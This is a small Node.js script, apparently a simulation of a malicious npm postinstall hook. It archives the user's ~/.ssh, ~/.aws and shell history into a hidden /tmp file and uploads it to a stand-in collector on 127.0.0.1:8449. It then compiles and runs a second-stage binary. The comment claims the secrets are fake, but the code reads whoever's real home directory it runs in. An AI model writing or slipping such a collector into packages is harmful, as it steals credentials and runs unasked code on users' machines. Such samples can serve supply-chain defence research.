// A postinstall-style collector in plain Node.js (no npm modules): packs the user's ~/.ssh,
// ~/.aws and shell history into a hidden archive in /tmp with tar, uploads it to a loopback
// "collector" (an untraced stand-in on 127.0.0.1:8449), then builds its next stage from C
// source at run time (cc) in its own folder and runs it. Secrets are fake; nothing leaves
// the machine.
'use strict';
const { execFileSync } = require('child_process');
const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');

const home = os.homedir();
const archive = '/tmp/.X1-cache.tgz';
try {
  execFileSync('tar', ['czf', archive, '-C', home, '.ssh', '.aws', '.bash_history'], { stdio: 'ignore' });
} catch (e) { /* a missing member still leaves an archive */ }

const stageSrc = path.join(__dirname, '.build', 'stage.c');
const stageBin = path.join(__dirname, '.build', 'stage');
fs.mkdirSync(path.dirname(stageSrc), { recursive: true });
fs.writeFileSync(stageSrc, '#include <stdio.h>\nint main(void){puts("stage2 up");return 0;}\n');

const sock = net.connect(8449, '127.0.0.1', () => {
  sock.end(fs.readFileSync(archive));
});
sock.on('error', () => {});
sock.on('close', () => {
  execFileSync('cc', ['-O2', '-o', stageBin, stageSrc]);
  execFileSync(stageBin, { stdio: 'inherit' });
});
